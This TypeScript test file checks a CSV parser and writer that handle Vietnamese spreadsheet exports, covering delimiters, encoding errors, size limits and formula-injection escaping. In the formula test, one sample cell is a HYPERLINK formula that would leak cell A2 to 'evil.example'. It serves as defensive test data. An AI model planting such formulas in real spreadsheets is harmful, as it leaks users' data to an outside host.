import { describe, expect, it } from 'vitest';
import {
  CsvError,
  decodeCsv,
  detectDelimiter,
  fileSizeProblem,
  longCells,
  MAX_CELL_CHARS,
  MAX_CSV_BYTES,
  parseCsv,
  protectCell,
  toCsv,
  unprotectCell,
} from './csv.ts';

const problems = (run: () => unknown) => {
  try {
    run();
  } catch (error) {
    if (error instanceof CsvError) return error.problems;
    throw error;
  }
  return [];
};
const utf8 = (text: string) => new TextEncoder().encode(text);
/** expect.stringMatching, typed as the string it stands in for (Vitest types it `any`). */
const matching = (pattern: RegExp) => expect.stringMatching(pattern) as string;

describe('csv', () => {
  it('round-trips commas, quotes, line breaks and Vietnamese', () => {
    const rows = [
      ['id', 'text'],
      ['a', 'Xin chào, "bạn"\nDòng hai'],
      ['b', ''],
    ];
    const table = parseCsv(toCsv(rows));
    expect([table.header, ...table.rows.map((r) => r.cells)]).toEqual(rows);
    expect(table.rows.map((r) => r.row)).toEqual([2, 3]);
  });

  it('reads spreadsheet exports with a byte-order mark, CRLF, and ";" from Vietnamese Excel', () => {
    expect(parseCsv(decodeCsv(utf8('\uFEFFa,b\r\n1,2\r\n'))).rows[0]?.cells).toEqual(['1', '2']);
    expect(detectDelimiter('a;b;"c,d"\n')).toBe(';');
    expect(detectDelimiter('a,b;c,d\n')).toBe(',');
    expect(parseCsv('a;b\r\n1;"2;3"\r\n')).toMatchObject({
      delimiter: ';',
      rows: [{ row: 2, cells: ['1', '2;3'] }],
    });
  });

  it('lists every row with more or fewer cells than the header, with its row', () => {
    const found = problems(() => parseCsv('a,b,c\n1,2,3\n1,2,3,4\n\n1,2\n,,\n1,2,3\n'));
    expect(found.map((p) => [p.row, p.column])).toEqual([
      [3, 4],
      [5, 3],
    ]);
    expect(found[0]?.message).toMatch(/4 ô .* 3 cột.*unquoted ","/);
    expect(found[1]?.message).toMatch(/thiếu ô/);
  });

  it('refuses a stray or unclosed quote with its row and column', () => {
    expect(problems(() => parseCsv('a,b\n1,2\n"x"y,2\n'))).toEqual([
      { row: 3, column: 1, message: matching(/ngoặc kép.*closing quote/) },
    ]);
    expect(problems(() => parseCsv('a,b\n1,x"y\n'))[0]).toMatchObject({ row: 2 });
    expect(problems(() => parseCsv('a,b\n1,"2\n3,4\n'))[0]?.message).toMatch(/never closed/);
  });

  it('refuses a repeated heading', () => {
    expect(problems(() => parseCsv('id,name,id\n1,2,3\n'))).toEqual([
      {
        row: 1,
        column: 3,
        message: matching(/"id" xuất hiện hai lần \(cột 1 và 3\)/),
      },
    ]);
  });

  it('refuses a file that is not UTF-8, saying from which row and how to save it', () => {
    // "Trung tâm" in code page 1258, as Excel's plain "CSV" writes it on Vietnamese Windows.
    const cp1258 = new Uint8Array([...utf8('id,name\r\na,'), 0x54, 0x72, 0xe2, 0x6d, 0x0d, 0x0a]);
    expect(problems(() => decodeCsv(cp1258))).toEqual([
      { row: 2, message: matching(/không phải UTF-8.*CSV UTF-8.*LibreOffice/) },
    ]);
    expect(problems(() => decodeCsv(new Uint8Array([0xff, 0xfe, 0x61, 0])))[0]?.message).toMatch(
      /UTF-16/,
    );
    // Decomposed letters (as some Mac and web tools write them) become the site's NFC.
    expect(decodeCsv(utf8('Ha\u0300 No\u0302\u0323i'))).toBe('Hà Nội');
  });

  it('refuses a file over 5 MB, saying its size and the limit in both languages', () => {
    expect(MAX_CSV_BYTES).toBe(5 * 1024 * 1024);
    expect(fileSizeProblem(MAX_CSV_BYTES)).toBeUndefined();
    expect(fileSizeProblem(6.5 * 1024 * 1024)).toEqual({
      row: 0,
      message: matching(
        /^Tệp nặng 6,5 MB, quá giới hạn 5 MB.*\(The file is 6.5 MB, over the 5 MB limit/,
      ),
    });
  });

  it('names every cell over the length limit by row, column and heading, header included', () => {
    const long = 'ạ'.repeat(MAX_CELL_CHARS + 1);
    const table = parseCsv(`id,description_vi,${long}\r\na,ok,x\r\nb,${long},y\r\n`);
    expect(longCells(table)).toEqual([
      {
        row: 1,
        column: 3,
        message: matching(/^Ô này dài 5\.001 ký tự, quá giới hạn 5\.000/),
      },
      {
        row: 3,
        column: 2,
        heading: 'description_vi',
        message: matching(/\(This cell is 5,001 characters long, over the 5,000 limit/),
      },
    ]);
    // Letters, not UTF-16 units: a cell just at the limit passes, emoji or not.
    expect(
      longCells({ header: ['a'], rows: [{ row: 2, cells: ['😀'.repeat(MAX_CELL_CHARS)] }] }),
    ).toEqual([]);
  });

  it('writes formula-like cells as text and reads them back exactly', () => {
    const risky = [
      '=HYPERLINK("https://evil.example/?"&A2,"Xem")',
      '+84 296 3852 000',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      "'=already quoted",
      "''+two",
      "'plain",
      'plain',
      '',
    ];
    expect(risky.map(protectCell).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(risky.map(protectCell).map(unprotectCell)).toEqual(risky);
    const table = parseCsv(toCsv([['a'], ...risky.filter(Boolean).map((c) => [c])]));
    expect(table.rows.map((r) => r.cells[0])).toEqual(risky.filter(Boolean));
    expect(toCsv([['=1+1', '+84']])).toBe("'=1+1,'+84\r\n");
  });
});
